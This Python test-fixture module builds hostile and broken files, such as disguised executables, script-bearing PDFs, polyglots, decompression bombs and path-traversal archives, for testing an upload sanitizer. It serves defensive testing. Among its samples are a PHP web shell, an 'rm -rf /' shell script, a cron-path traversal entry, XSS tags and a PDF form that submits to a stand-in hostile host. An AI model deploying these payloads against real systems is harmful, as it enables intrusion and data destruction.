"""Files that do harm or are broken, made here by code, each with what must become of it. None of them lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

# Put together from halves, so that no scanner takes this file for the thing itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file with its sender's name for it. Either ``refused`` for this reason, or kept without what ``gone`` names."""

    what: str
    filename: str
    make: Callable[[], bytes]
    refused: str = ""
    gone: tuple[str, ...] = ()
    absent: tuple[bytes, ...] = ()

    @property
    def data(self) -> bytes:
        """The octets of the file."""
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **saving: object) -> bytes:
    """A small PDF, changed before it is saved."""
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page(page_size=(300, 400))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **saving: object) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def zipped(**files: bytes) -> bytes:
    """An archive of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def script(words: str = "app.alert('halo')") -> Dictionary:
    """An action that runs a script."""
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(words))


def _opens_with_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(script())


def _named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(script())])))


def _script_of_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script(), C=script())


def _script_of_field(made: pikepdf.Pdf) -> None:
    entry = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("a"),
            Rect=Array([0, 0, 9, 9]),
            AA=Dictionary(K=script()),
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([entry]))
    made.pages[0].obj.Annots = Array([entry])


def _chained_script(made: pikepdf.Pdf) -> None:
    goes = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]), Next=Array([script()]))
    made.Root.OpenAction = goes


def _on_page(made: pikepdf.Pdf, mark: Dictionary) -> None:
    mark.Type, mark.Rect = Name.Annot, Array([0, 0, 90, 90])
    made.pages[0].obj.Annots = Array([made.make_indirect(mark)])


def _link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: _on_page(made, Dictionary(Subtype=Name.Link, A=action))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["alat.exe"] = b"MZ" + b"\0" * 60


def _attached_to_page(made: pikepdf.Pdf) -> None:
    file = made.make_stream(b"MZ berbahaya", Type=Name.EmbeddedFile)
    spec = made.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file)))
    _on_page(made, Dictionary(Subtype=Name.FileAttachment, FS=spec))


def _film(made: pikepdf.Pdf) -> None:
    _on_page(made, Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary()))


def _sound(made: pikepdf.Pdf) -> None:
    sound = Dictionary(S=Name.Sound, Sound=made.make_stream(b"\0" * 20, R=8_000))
    made.pages[0].obj.AA = Dictionary(O=sound)


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp:xdp xmlns:xdp='x'/>"))


def _dynamic_xfa(made: pikepdf.Pdf) -> None:
    _xfa(made)
    made.Root.NeedsRendering = True


def _portfolio(made: pikepdf.Pdf) -> None:
    _attached(made)
    made.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)


def _signature(made: pikepdf.Pdf) -> None:
    """What a reader takes for an electronic signature: enough to know that the file must not be rewritten."""
    value = Dictionary(
        Type=Name.Sig,
        Filter=pikepdf.Name("/Adobe.PPKLite"),
        ByteRange=Array([0, 10, 20, 10]),
        Contents=String("x" * 64),
    )
    entry = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Sig,
            T=String("s"),
            Rect=Array([0, 0, 0, 0]),
            V=made.make_indirect(value),
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([entry]), SigFlags=3)


def _signed_with_script(made: pikepdf.Pdf) -> None:
    _signature(made)
    _opens_with_script(made)


def _signed_with_file(made: pikepdf.Pdf) -> None:
    _signature(made)
    made.attachments["data.json"] = b"{}"


def signed_pdf() -> bytes:
    """A file with a signature and nothing that runs."""
    return pdf(_signature)


def _ocean(made: pikepdf.Pdf) -> None:
    once = zlib.compress(b"\0" * 40_000_000, 9)
    twice = zlib.compress(once, 9)
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    copies = [made.make_indirect(pikepdf.Stream(made, twice, Filter=filters)) for _copy in range(9)]
    made.pages[0].obj.Contents = Array(copies)


def _huge_picture_inside(made: pikepdf.Pdf) -> None:
    image = made.make_stream(
        zlib.compress(b"\0" * 1_000), Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000
    )
    image.Filter, image.ColorSpace, image.BitsPerComponent = Name.FlateDecode, Name.DeviceGray, 1
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))


def _deep(made: pikepdf.Pdf) -> None:
    nest = Array([1])
    for _level in range(400):
        nest = Array([nest])
    made.Root.Deep = nest


def _locked(owner: str, user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner=owner, user=user))


def _pixel_bomb_png() -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + name + body + struct.pack("!I", zlib.crc32(name + body))

    head = struct.pack("!IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9_000)) + chunk(b"IEND", b"")
    )


def _words_bomb_png() -> bytes:
    """A picture whose comment unpacks to an ocean."""
    good = picture("PNG")
    body = b"a\0\0" + zlib.compress(b" " * 3_000_000, 9)
    chunk = struct.pack("!I", len(body)) + b"zTXt" + body + struct.pack("!I", zlib.crc32(b"zTXt" + body))
    return good[:33] + chunk + good[33:]


def photo_with_position() -> bytes:
    """A photo that says where it was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Kamera Rahasia"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({1: "S", 2: (1.0, 30.0, 0.0), 3: "E", 4: (122.0, 15.0, 0.0)})
    return picture(exif=exif)


def _png_with_words() -> bytes:
    words = PngInfo()
    words.add_text("Comment", "<script>alert(1)</script>")
    return picture("PNG", pnginfo=words)


OFFICE = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
MACROS = {**OFFICE, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open"}

# What calls itself something else.
DISGUISED = (
    Hostile("a word processor's file named as PDF", "surat.pdf", lambda: zipped(**OFFICE), "file_office"),
    Hostile("a word processor's file with macros", "surat.docm", lambda: zipped(**MACROS), "file_office"),
    Hostile("an old word processor's file", "surat.doc",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "file_office"),
    Hostile("a program named as PDF", "faktur.pdf", lambda: b"MZ\x90\0" + b"\0" * 200, "file_program"),
    Hostile("a program of another system", "pasang.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200, "file_program"),
    Hostile("a script of a shell", "ktp.jpg", lambda: b"#!/bin/sh\nrm -rf /\n", "file_program"),
    Hostile("a page with a script named as picture", "ktp.png",
            lambda: b"<!DOCTYPE html><script>alert(1)</script>", "file_web"),
    Hostile("a script of a server", "ktp.jpg", lambda: b"<?php system($_GET['c']); ?>", "file_web"),
    Hostile("a page in letters of two octets", "ktp.jpg",
            lambda: "<html><script>1</script>".encode("utf-16"), "file_web"),
    Hostile("an animated picture of another kind", "ktp.jpg", lambda: b"GIF89a" + b"\0" * 100, "file_type"),
    Hostile("a picture format of a phone", "IMG_1.jpg", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 90, "file_heic"),
    Hostile("plain text named as PDF", "proposal.pdf", lambda: b"Ini bukan PDF.", "file_type"),
)  # fmt: skip
# Pictures that hold programs, and archives.
CONTAINERS = (
    Hostile("a drawing with a script", "logo.svg",
            lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>", "file_svg"),
    Hostile("a drawing with a script behind its head", "logo.png",
            lambda: b"<?xml version='1.0'?>\n<!-- a -->\n<svg onload='alert(1)'/>", "file_svg"),
    Hostile("an archive", "semua.zip", lambda: zipped(a=b"a"), "file_archive"),
    Hostile("an archive that unpacks to an ocean", "berkas.pdf", lambda: zipped(a=b"\0" * 5_000_000), "file_archive"),
    Hostile("an archive with paths that lead outside", "berkas.pdf",
            lambda: zipped(**{"../../etc/cron.d/x": b"* * * * *"}), "file_archive"),
    Hostile("an archive of another kind", "berkas.pdf", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 90, "file_archive"),
    Hostile("a packed stream", "berkas.pdf", lambda: b"\x1f\x8b\x08" + b"\0" * 90, "file_archive"),
)  # fmt: skip
# Two things at once.
MIXED = (
    Hostile("a PDF that is an archive too", "surat.pdf", lambda: pdf() + zipped(a=b"MZ"), "file_mixed"),
    Hostile("a photo that is an archive too", "foto.jpg", lambda: picture() + zipped(a=b"MZ"), "file_mixed"),
    Hostile("a picture that is a Java program too", "foto.png",
            lambda: picture("PNG") + zipped(META=b"x"), "file_mixed"),
    Hostile("a PDF that begins as a page", "surat.pdf", lambda: b"<html><script>1</script>\n" + pdf(), "file_mixed"),
    Hostile("a PDF that begins as a picture of another kind", "surat.pdf",
            lambda: b"GIF89a=1;/*" + pdf() + b"*/", "file_mixed"),
    Hostile("a photo with a page behind it", "foto.jpg",
            lambda: picture() + b"<html><script>1</script></html>", "file_mixed"),
    Hostile("a photo with a program behind it", "foto.jpg", lambda: picture() + b"\x7fELF" + b"\0" * 90, "file_mixed"),
)  # fmt: skip
# What cannot be read.
BROKEN = (
    Hostile("zero octets", "kosong.pdf", lambda: b"", "file_empty"),
    Hostile("a PDF cut off", "rusak.pdf", lambda: pdf()[:-300], "file_damaged"),
    Hostile("a PDF of noughts", "rusak.pdf", lambda: b"%PDF-1.7\n" + b"\0" * 500, "file_damaged"),
    Hostile("a PDF without pages", "rusak.pdf", lambda: pdf(pages=0), "file_damaged"),
    Hostile("a PDF with objects in one another without end", "rusak.pdf", lambda: pdf(_deep), "file_damaged"),
    Hostile("a photo cut off", "rusak.jpg", lambda: picture(size=(300, 300))[:900], "file_damaged"),
    Hostile("a picture cut off", "rusak.png", lambda: picture("PNG", (300, 300))[:900], "file_damaged"),
    Hostile("a PDF with a password", "terkunci.pdf", lambda: _locked("a", "b"), "file_encrypted"),
    Hostile("a PDF with more than can be read", "tebal.pdf", lambda: pdf(pages=2_001), "file_too_many_pages"),
    Hostile("a collection of files in a PDF", "kumpulan.pdf", lambda: pdf(_portfolio), "file_portfolio"),
    Hostile("a form that one program alone shows", "formulir.pdf", lambda: pdf(_dynamic_xfa), "file_dynamic_form"),
)  # fmt: skip
# What exhausts its readers.
BOMBS = (
    Hostile("a PDF that unpacks to an ocean", "bom.pdf", lambda: pdf(_ocean), "file_unpacks_too_large"),
    Hostile("a PDF with a picture of 8,100 million pixels", "bom.pdf",
            lambda: pdf(_huge_picture_inside), "file_too_many_pixels"),
    Hostile("a picture of 3,600 million pixels", "bom.png", _pixel_bomb_png, "file_too_many_pixels"),
    Hostile("a photo of 81 million pixels", "bom.jpg",
            lambda: picture_of_one_colour((9_000, 9_000)), "file_too_many_pixels"),
    Hostile("a picture whose comment unpacks to an ocean", "bom.png", _words_bomb_png, "file_damaged"),
)  # fmt: skip
# What is kept once it is clean.
CLEANED = (
    Hostile("a script that runs when a PDF opens", "a.pdf",
            lambda: pdf(_opens_with_script), gone=("scripts",), absent=(b"app.alert",)),
    Hostile("a script of the whole PDF", "a.pdf",
            lambda: pdf(_named_script), gone=("scripts",), absent=(b"app.alert",)),
    Hostile("a script of a page", "a.pdf", lambda: pdf(_script_of_page), gone=("actions",), absent=(b"app.alert",)),
    Hostile("a script of a field", "a.pdf", lambda: pdf(_script_of_field), gone=("actions",), absent=(b"app.alert",)),
    Hostile("a script behind a harmless action", "a.pdf",
            lambda: pdf(_chained_script), gone=("scripts",), absent=(b"app.alert",)),
    Hostile("a link that starts a program", "a.pdf",
            lambda: pdf(_link(Dictionary(S=Name.Launch, F=String("cmd.exe")))), gone=("actions",), absent=(b"cmd.exe",)),
    Hostile("a link that runs a script", "a.pdf",
            lambda: pdf(_link(Dictionary(S=Name.URI, URI=String("javascript:1")))), gone=("actions",), absent=(b"javascript:",)),
    Hostile("a form that sends itself away", "a.pdf",
            lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://jahat")))), gone=("actions",), absent=(b"jahat",)),
    Hostile("a link into another file", "a.pdf",
            lambda: pdf(_link(Dictionary(S=Name.GoToR, F=String("//jahat.example/a.pdf")))), gone=("actions",), absent=(b"jahat",)),
    Hostile("a program attached to a PDF", "a.pdf",
            lambda: pdf(_attached), gone=("embedded_files",), absent=(b"alat.exe",)),
    Hostile("a program attached to a page", "a.pdf",
            lambda: pdf(_attached_to_page), gone=("embedded_files",), absent=(b"berbahaya",)),
    Hostile("a film in a PDF", "a.pdf", lambda: pdf(_film), gone=("media",), absent=(b"RichMedia",)),
    Hostile("a sound that plays by itself", "a.pdf", lambda: pdf(_sound), gone=("actions",), absent=(b"/Sound",)),
    Hostile("a form in a form", "a.pdf", lambda: pdf(_xfa), gone=("form_scripts",), absent=(b"xdp:xdp",)),
    Hostile("a PDF that forbids printing", "a.pdf",
            lambda: _locked("a", ""), gone=("protection",), absent=(b"/Encrypt",)),
    Hostile("a photo that says where it was taken", "a.jpg",
            photo_with_position, gone=("camera_data",), absent=(b"Kamera Rahasia", b"Exif")),
    Hostile("a picture with a script in its words", "a.png",
            _png_with_words, gone=("camera_data",), absent=(b"<script>",)),
    Hostile("a photo with a script in its comment", "a.jpg", lambda: picture(comment=b"<script>1</script>"),
            gone=("camera_data",), absent=(b"<script>",)),
    Hostile("a photo with a name of two endings", "a.pdf.exe", picture, gone=("renamed",)),
    Hostile("a name that leads elsewhere", "../../etc/passwd", lambda: pdf(), gone=("renamed",)),
)  # fmt: skip
SIGNED = (
    Hostile("a signed PDF that runs a script", "a.pdf", lambda: pdf(_signed_with_script), "file_signed_active"),
    Hostile("a signed PDF with a file attached", "a.pdf", lambda: pdf(_signed_with_file), gone=("attachments_kept",)),
    Hostile("a signed PDF", "a.pdf", signed_pdf),
)
CORPUS = (*DISGUISED, *CONTAINERS, *MIXED, *BROKEN, *BOMBS, *CLEANED, *SIGNED)
INFECTED = (
    Hostile("the signature that scanners are tried with", "eicar.com", lambda: EICAR, "file_infected"),
    Hostile("the same in a PDF", "a.pdf", lambda: pdf() + b"\n%" + EICAR, "file_infected"),
    Hostile("the same in a photo", "a.jpg", lambda: picture(comment=EICAR), "file_infected"),
)


def picture_of_one_colour(size: tuple[int, int]) -> bytes:
    """A small file that unpacks to a large picture."""
    out = io.BytesIO()
    Image.new("L", size, 255).save(out, "JPEG", quality=1)
    return out.getvalue()
